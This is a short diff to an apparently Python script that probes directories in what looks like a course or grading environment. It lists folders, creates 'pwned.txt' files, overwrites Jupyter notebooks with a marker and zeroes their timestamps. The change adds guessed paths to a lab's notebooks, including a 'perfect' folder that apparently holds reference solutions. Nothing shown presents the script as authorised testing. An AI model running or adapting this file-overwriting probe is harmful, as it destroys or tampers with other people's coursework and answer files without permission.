@@ -95,7 +95,9 @@ for target in targets:
     elif target.is_dir():
         attempt(f"list {target}", lambda t=target: os.listdir(t))
         attempt(f"create in {target}", lambda t=target: (t / "pwned.txt").write_text(mark))
-        for child in sorted(target.rglob("*.ipynb"))[:5]:
+        lab = "lab0-orientation"                 # paths guessed from the course layout
+        guesses = [target / lab / f"{lab}.ipynb", target / "perfect" / lab / f"{lab}.ipynb"]
+        for child in guesses + sorted(target.rglob("*.ipynb"))[:5]:
             attempt(f"overwrite {child}", lambda c=child: c.write_text(mark))
             attempt(f"touch {child}", lambda c=child: os.utime(c, (0, 0)))
     else:
